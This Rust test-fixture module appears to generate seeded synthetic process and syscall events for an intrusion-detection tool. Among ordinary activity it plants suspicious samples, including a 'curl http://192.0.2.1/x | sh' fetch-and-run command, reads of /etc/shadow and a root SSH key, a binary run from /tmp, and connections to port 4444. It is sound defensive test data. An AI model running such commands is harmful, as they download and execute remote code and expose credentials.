//! Made-up events: a busy machine's usual mix, with something suspicious now and then. For tests
//! and benches; the same seed gives the same events.

use vedetta_model::event::{
    Accept, Bpf, Chmod, Connect, Exec, Exit, Fork, Link, Open, Ptrace, Rename, SetId, SetIdCall,
    SocketAddress, Unlink, Unshare,
};
use vedetta_model::{Event, Payload, Process, ProcessKey, Timestamp};

/// A small generator of numbers (splitmix64).
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ z >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ z >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ z >> 31
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % n.max(1) as u64).unwrap_or_default()
    }

    fn pick<'t>(&mut self, from: &[&'t str]) -> &'t str {
        from[self.below(from.len())]
    }
}

const START: i64 = 1_760_000_000_000_000_000;

fn process(pid: u32, parent: Option<u32>, name: &str, exe: &str, args: &[&str]) -> Process {
    let start = Timestamp::from_nanos(START + i64::from(pid));
    Process {
        key: ProcessKey { pid, start },
        parent,
        ppid: parent.map_or(0, |p| 100 + p),
        exec_time: start,
        name: name.to_owned(),
        exe: exe.to_owned(),
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        cwd: "/root".to_owned(),
        uid: if pid.is_multiple_of(3) { 1000 } else { 0 },
        euid: if pid.is_multiple_of(3) { 1000 } else { 0 },
        gid: 0,
        egid: 0,
        user: if pid.is_multiple_of(3) { "ann" } else { "root" }.to_owned(),
        loginuid: (pid.is_multiple_of(2)).then_some(1000),
        tty: 0,
        sid: 101,
        session_start: start,
        pgid: pid,
        container_id: if pid.is_multiple_of(5) { "3ad7b26ded6d8e7b23da7d48fe88" } else { "" }.to_owned(),
        exe_from_memfd: false,
        exe_writable: pid.is_multiple_of(7),
    }
}

/// The processes that the events refer to.
pub fn processes() -> Vec<Process> {
    vec![
        process(100, None, "systemd", "/usr/lib/systemd/systemd", &["/sbin/init"]),
        process(101, Some(0), "sshd", "/usr/sbin/sshd", &["sshd: ann"]),
        process(102, Some(1), "bash", "/usr/bin/bash", &["-bash"]),
        process(103, Some(2), "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]),
        process(104, Some(0), "nginx", "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
        process(105, Some(4), "sh", "/usr/bin/dash", &["sh", "-c", "curl http://192.0.2.1/x | sh"]),
        process(106, Some(5), "curl", "/usr/bin/curl", &["curl", "http://192.0.2.1/x"]),
        process(107, Some(2), "x", "/tmp/x", &["./x"]),
        process(108, Some(0), "cron", "/usr/sbin/cron", &["/usr/sbin/cron", "-f"]),
        process(
            109,
            Some(8),
            "python3",
            "/usr/bin/python3.12",
            &["python3", "/opt/app/main.py", "--port", "80"],
        ),
        process(110, Some(0), "postgres", "/usr/lib/postgresql/16/bin/postgres", &["postgres"]),
    ]
}

const FILES: &[&str] = &[
    "/etc/ld.so.cache",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/proc/self/stat",
    "/var/log/nginx/access.log",
    "/home/ann/project/src/main.rs",
    "/usr/share/zoneinfo/UTC",
    "/etc/hosts",
    "/tmp/build/a.o",
    "/dev/null",
    "/var/lib/postgresql/base/1/2601",
    "/etc/nsswitch.conf",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/ssh/sshd_config",
    "/root/.ssh/id_ed25519",
    "/root/.bash_history",
];

fn address(numbers: &mut Numbers) -> SocketAddress {
    let ip: [u8; 4] = [[10, 0, 0, 1], [192, 0, 2, 7], [127, 0, 0, 1], [169, 254, 169, 254]][numbers.below(4)];
    SocketAddress::Ip { address: ip.into(), port: [443, 53, 4444, 80][numbers.below(4)] }
}

fn payload(numbers: &mut Numbers) -> (Payload, i64) {
    let path = |numbers: &mut Numbers| numbers.pick(FILES).to_owned();
    match numbers.below(100) {
        0..55 => {
            let flags = [0, 0, 0, 0o2_000_000, 0o1, 0o1101, 0o2, 0o200_000][numbers.below(8)];
            let result = if numbers.below(12) == 0 { -2 } else { 3 };
            (Open { path: path(numbers), flags, mode: 0o644 }.into(), result)
        }
        55..63 => (Exec { filename: "/usr/bin/x".to_owned(), previous_name: "bash".to_owned() }.into(), 0),
        63..70 => {
            let start = Timestamp::from_nanos(START);
            (Fork { child: ProcessKey { pid: 500, start } }.into(), 0)
        }
        70..77 => (Exit::default().into(), 0),
        77..84 => {
            let remote = match numbers.below(4) {
                0 => SocketAddress::Unix { path: "/run/systemd/journal/socket".to_owned() },
                _ => address(numbers),
            };
            (Connect { fd: 5, remote, local: None, protocol: 6 }.into(), [0, -115, -111][numbers.below(3)])
        }
        84..87 => {
            let (remote, local) = (Some(address(numbers)), Some(address(numbers)));
            (Accept { remote, local, protocol: 6 }.into(), 7)
        }
        87..91 => (Unlink { path: path(numbers), directory: numbers.below(4) == 0 }.into(), 0),
        91..94 => (Rename { from: path(numbers), to: path(numbers) }.into(), 0),
        94 => (Chmod { path: path(numbers), mode: [0o755, 0o4755][numbers.below(2)] }.into(), 0),
        95 => {
            (Link { target: path(numbers), path: path(numbers), symbolic: numbers.below(2) == 0 }.into(), 0)
        }
        96 => {
            let call = [SetIdCall::SetUid, SetIdCall::SetResUid][numbers.below(2)];
            (SetId { call, ids: [Some(0), None, None] }.into(), 0)
        }
        97 => (Ptrace { request: [0, 16, 0x4206][numbers.below(3)], target: 42 }.into(), 0),
        98 => (Unshare { flags: [0x400, 0x2_0000][numbers.below(2)] }.into(), 0),
        _ => (Bpf { command: [1, 5][numbers.below(2)] }.into(), 4),
    }
}

/// As many events as asked for.
pub fn events(seed: u64, count: usize) -> Vec<Event> {
    let mut numbers = Numbers(seed);
    let table = processes().len();
    (1..=count as u64)
        .map(|seq| {
            let (payload, result) = payload(&mut numbers);
            let process = u32::try_from(numbers.below(table)).unwrap_or_default();
            let time = Timestamp::from_nanos(START + i64::try_from(seq).unwrap_or_default() * 1000);
            Event { seq, time, process: Some(process), tid: 100 + process, result, payload }
        })
        .collect()
}
